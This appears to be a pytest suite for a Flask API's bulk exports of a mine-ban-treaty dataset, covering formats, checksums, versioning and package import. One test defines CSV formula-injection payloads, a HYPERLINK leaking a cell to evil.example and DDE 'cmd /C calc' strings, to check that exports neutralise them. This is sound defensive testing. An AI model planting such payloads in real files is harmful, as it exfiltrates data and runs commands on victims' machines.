"""Bulk downloads: every table in every format, the data package, the export and import commands."""
import csv
import hashlib
import io
import json
import zipfile

import frictionless
import pandas as pd
import pyarrow.parquet as pq
import pytest
from flask_migrate import upgrade

from api.extensions import db
from api.models import DatasetVersion, State
from conftest import edit, make_app, seed

TABLES = ["sources", "treaties", "states", "treaty_actions", "policy_positions", "obligations", "statuses",
          "membership_timeline", "citations"]
FORMATS = ["csv", "json", "ndjson", "parquet"]
DAY = "2026-01-15"


def test_the_index_lists_every_file_with_the_checksum_size_and_rows_it_serves(client):
    index = client.get(f"/api/v1/exports?as_of={DAY}").get_json()
    assert [t["name"] for t in index["tables"]] == TABLES and index["formats"] == FORMATS
    for table in index["tables"]:
        for fmt, entry in table["files"].items():
            response = client.get(entry["url"])
            assert response.status_code == 200 and response.mimetype == entry["media_type"]
            assert hashlib.sha256(response.data).hexdigest() == entry["sha256"] == response.headers["ETag"].strip('"')
            assert len(response.data) == entry["bytes"] == int(response.headers["Content-Length"])
        assert len(pd.read_csv(io.BytesIO(client.get(table["files"]["csv"]["url"]).data))) == table["rows"]


@pytest.mark.parametrize("table", TABLES)
def test_every_format_holds_the_same_rows(client, table):
    def get(fmt):
        return client.get(f"/api/v1/exports/{table}.{fmt}?as_of={DAY}").data

    items = json.loads(get("json"))["items"]
    assert [json.loads(line) for line in get("ndjson").decode().splitlines()] == items
    parquet = pq.read_table(io.BytesIO(get("parquet"))).to_pylist()
    as_json = [{k: v.isoformat() if hasattr(v, "isoformat") else v for k, v in row.items()} for row in parquet]
    assert as_json == items
    rows = list(csv.DictReader(io.StringIO(get("csv").decode("utf-8"))))
    flat = [{k: "" if v is None else ";".join(v) if isinstance(v, list) else str(v).lower()
             if isinstance(v, bool) else str(v) for k, v in item.items()} for item in items]
    assert rows == flat and len(rows) > 0


@pytest.mark.parametrize("table", TABLES)
def test_pandas_reads_every_csv_without_warnings(client, table):
    frame = pd.read_csv(io.BytesIO(client.get(f"/api/v1/exports/{table}.csv").data))
    assert len(frame) > 0 and "Unnamed: 0" not in frame.columns


def test_csv_facts_agree_with_the_read_api(client):
    statuses = pd.read_csv(io.BytesIO(client.get(f"/api/v1/exports/statuses.csv?as_of={DAY}").data),
                           keep_default_na=False).set_index("state")
    for code in ("FI", "US", "UA", "CA"):
        answer = client.get(f"/api/v1/countries/{code}/status?as_of={DAY}").get_json()
        assert statuses.loc[code, "status"] == answer["status"]
    actions = pd.read_csv(io.BytesIO(client.get("/api/v1/exports/treaty_actions.csv").data), keep_default_na=False)
    withdrawal = actions[actions["id"] == "apmbc-fi-withdrawal"].iloc[0]
    assert withdrawal["date"] == "2025-07-10" and withdrawal["armed_conflict_hold"] in (True, False)


def test_the_data_package_is_valid_frictionless_with_version_licence_and_checksums(client, tmp_path):
    response = client.get(f"/api/v1/exports/datapackage.zip?as_of={DAY}")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    version = response.headers["X-Dataset-Version"]
    zipfile.ZipFile(io.BytesIO(response.data)).extractall(tmp_path)
    report = frictionless.validate(str(tmp_path / "datapackage.json"))
    assert report.valid and report.stats["errors"] == 0 and report.stats["warnings"] == 0, report.flatten(["message"])
    descriptor = json.loads((tmp_path / "datapackage.json").read_text())
    assert descriptor["version"] == version and descriptor["licenses"][0]["name"] == "CC-BY-4.0"
    assert version in descriptor["citation"]
    for resource in descriptor["resources"]:
        data = (tmp_path / resource["path"]).read_bytes()
        assert resource["hash"] == "sha256:" + hashlib.sha256(data).hexdigest()
        assert data == client.get(f"/api/v1/exports/{resource['name']}.csv?as_of={DAY}").data
    actions = next(r for r in descriptor["resources"] if r["name"] == "treaty_actions")
    assert {"fields": ["state"], "reference": {"resource": "states", "fields": ["iso2"]}} in actions["schema"]["foreignKeys"]


@pytest.mark.parametrize("name", ["nope.csv", "states.xlsx", "states", "datapackage.tar"])
def test_an_unknown_table_or_format_is_a_404_listing_the_valid_ones(client, name):
    response = client.get(f"/api/v1/exports/{name}")
    assert response.status_code == 404 and response.mimetype == "application/problem+json"
    body = response.get_json()
    assert "states.csv" in body["valid"] and "datapackage.zip" in body["valid"] and "csv" in body["detail"]


def test_a_file_the_client_has_is_a_304_and_is_named_by_version(client):
    first = client.get("/api/v1/exports/states.parquet")
    version = first.headers["X-Dataset-Version"]
    assert first.headers["Content-Disposition"] == \
        f'attachment; filename="mine-ban-treaty-{version}-states.parquet"'
    again = client.get("/api/v1/exports/states.parquet", headers={"If-None-Match": first.headers["ETag"]})
    assert again.status_code == 304 and again.data == b""


def test_bad_parameters_are_400(client):
    assert client.get("/api/v1/exports/states.csv?as_of=2026-02-30").status_code == 400
    assert client.get("/api/v1/exports?colour=red").status_code == 400


def export(app, directory, *args):
    with app.app_context():
        result = app.test_cli_runner().invoke(args=["export", str(directory), "--as-of", DAY, *args])
    assert result.exit_code == 0, result.output
    return {path.name: path.read_bytes() for path in directory.iterdir()}


def test_the_export_command_writes_the_bytes_the_endpoints_serve(app, client, tmp_path):
    files = export(app, tmp_path)
    assert len(files) == len(TABLES) * len(FORMATS) + 1
    for name, data in files.items():
        assert client.get(f"/api/v1/exports/{name}?as_of={DAY}").data == data, name


def test_a_package_imported_into_an_empty_database_exports_the_same_bytes(app, empty_app, tmp_path):
    before = export(app, tmp_path / "before")
    result = empty_app.test_cli_runner().invoke(args=["import-package", str(tmp_path / "before" / "datapackage.zip")])
    assert result.exit_code == 0, result.output
    after = export(empty_app, tmp_path / "after")
    assert after.keys() == before.keys()
    assert [name for name in before if before[name] != after[name]] == []


def _rewrite(package: bytes, path: str, change, fix_checksum: bool) -> bytes:
    source, out = zipfile.ZipFile(io.BytesIO(package)), io.BytesIO()
    files = {name: source.read(name) for name in source.namelist()}
    changed = change(files[path])
    assert changed != files[path]
    files[path] = changed
    if fix_checksum:
        descriptor = json.loads(files["datapackage.json"])
        for resource in descriptor["resources"]:
            if resource["path"] == path:
                resource["hash"], resource["bytes"] = "sha256:" + hashlib.sha256(files[path]).hexdigest(), len(files[path])
        files["datapackage.json"] = json.dumps(descriptor).encode()
    with zipfile.ZipFile(out, "w") as target:
        for name, data in files.items():
            target.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize("path, change, fix_checksum, message", [
    ("data/states.csv", lambda data: data.replace(b"Finland", b"Finnland", 1), False,
     "data/states.csv: checksum or size does not match datapackage.json"),
    ("data/states.csv", lambda data: data.replace(b"\r\nFI,FIN,", b"\r\nFI,FINN,", 1), True, "data/states.csv row "),
    ("data/states.csv", lambda data: data.replace(b",Finland,", b",Suomi,", 1), True,
     "datapackage.json: version"),
    ("data/statuses.csv", lambda data: data.replace(b"FI,apmbc,2026-01-15,withdrawn", b"FI,apmbc,2026-01-15,state_party", 1),
     True, "data/statuses.csv: does not match what the package's data gives"),
])
def test_a_corrupt_or_mismatched_package_is_refused_naming_the_file_and_row(
        app, empty_app, tmp_path, path, change, fix_checksum, message):
    package = export(app, tmp_path)["datapackage.zip"]
    broken = tmp_path / "broken.zip"
    broken.write_bytes(_rewrite(package, path, change, fix_checksum))
    result = empty_app.test_cli_runner().invoke(args=["import-package", str(broken)])
    assert result.exit_code == 1 and message in result.output
    assert db.session.query(DatasetVersion).count() == 0 and db.session.query(State).count() == 0


def test_an_old_versions_files_stay_identical_after_a_new_version(empty_app, seed_dir, tmp_path):
    seed(empty_app, seed_dir)
    client = empty_app.test_client()
    urls = [f"/api/v1/exports/{name}?as_of={DAY}" for name in ("policy_positions.csv", "datapackage.zip")]
    first = [client.get(url) for url in urls]
    version = first[0].headers["X-Dataset-Version"]
    edit(seed_dir / "policies" / "US.yaml", "us-2022-06-21-use", restriction="Korean Peninsula")
    seed(empty_app, seed_dir)
    for url, old in zip(urls, first):
        assert client.get(url).data != old.data
        pinned = client.get(f"{url}&dataset_version={version}")
        assert pinned.data == old.data and pinned.headers["ETag"] == old.headers["ETag"]
    files = export(empty_app, tmp_path / "out", "--dataset-version", version)
    assert files["datapackage.zip"] == first[1].data and files["policy_positions.csv"] == first[0].data


def test_exporting_an_unknown_version_fails_cleanly(app, tmp_path):
    with app.app_context():
        result = app.test_cli_runner().invoke(args=["export", str(tmp_path), "--dataset-version", "1999.01.01-dead"])
    assert result.exit_code == 1 and "No dataset version '1999.01.01-dead'" in result.output


HOSTILE = {"summary": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "quote": "+cmd|' /C calc'!A0",
           "restriction": "-2+3", "announced_by": "@SUM(1+1)*cmd|' /C calc'!A0", "notes": "\t=1+1"}


def test_csv_cells_cannot_become_formulas_and_other_formats_keep_exact_values(empty_app, database_url, tmp_path):
    """A curator's hostile values, written through the API: every CSV (also inside the data
    package) starts them with an apostrophe; JSON, NDJSON and Parquet keep them exactly; numbers and
    dates are untouched; a package import gives back the exact values."""
    from curators import US_POSITION, bearer, seed_small
    seed_small(empty_app)
    client = empty_app.test_client()
    position = US_POSITION | HOSTILE
    assert client.post("/api/v1/policy-positions", json=position, headers=bearer()).status_code == 201

    def row_of(data: bytes) -> dict:
        return next(r for r in csv.DictReader(io.StringIO(data.decode(), newline="")) if r["id"] == position["id"])

    row = row_of(client.get("/api/v1/exports/policy_positions.csv").data)
    assert {name: row[name] for name in HOSTILE} == {name: "'" + value for name, value in HOSTILE.items()}
    assert row["effective"] == "2026-03-01" and row["state"] == "US" and row["position"] == "prohibited"
    package = zipfile.ZipFile(io.BytesIO(client.get("/api/v1/exports/datapackage.zip").data))
    assert row_of(package.read("data/policy_positions.csv")) == row
    for name in package.namelist():  # no cell of any CSV starts a formula
        if name.endswith(".csv"):
            cells = [cell for line in csv.reader(io.StringIO(package.read(name).decode(), newline=""))
                     for cell in line]
            assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], name
    obligations = list(csv.DictReader(io.StringIO(client.get("/api/v1/exports/obligations.csv").data.decode())))
    assert obligations == [] or all(r["article"] in ("4", "5") for r in obligations)

    def exact(items):
        item = next(i for i in items if i["id"] == position["id"])
        return {name: item[name] for name in HOSTILE}
    assert exact(client.get("/api/v1/exports/policy_positions.json").json["items"]) == HOSTILE
    ndjson = client.get("/api/v1/exports/policy_positions.ndjson").data.decode().splitlines()
    assert exact([json.loads(line) for line in ndjson]) == HOSTILE
    assert exact(pq.read_table(io.BytesIO(client.get("/api/v1/exports/policy_positions.parquet").data))
                 .to_pylist()) == HOSTILE
    assert exact(client.get("/api/v1/countries/US/policies?dimension=use").json["items"]) == HOSTILE

    exported = tmp_path / "package.zip"
    exported.write_bytes(client.get("/api/v1/exports/datapackage.zip").data)
    imported = make_app(database_url())
    with imported.app_context():
        upgrade()
        result = imported.test_cli_runner().invoke(args=["import-package", str(exported)])
        assert result.exit_code == 0, result.output
        items = imported.test_client().get("/api/v1/exports/policy_positions.json").json["items"]
        db.session.remove()
        db.engine.dispose()
    assert exact(items) == HOSTILE


def test_neutralised_cells_read_back_exactly():
    from api.read.formats import _csv_cell, neutralise, unneutralise
    for text in ["=1+1", "+1", "-1", "@a", "\tx", "\rx", "'", "''", "'=1", "''-1", "'abc", "abc", "", "a=b", "-"]:
        assert unneutralise(neutralise(text)) == text
        assert neutralise(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert neutralise("'limited basis'") == "'limited basis'" and neutralise("'=1") == "''=1"
    assert (_csv_cell(-5), _csv_cell("-5"), _csv_cell(["-a", "b"])) == ("-5", "'-5", "'-a;b")
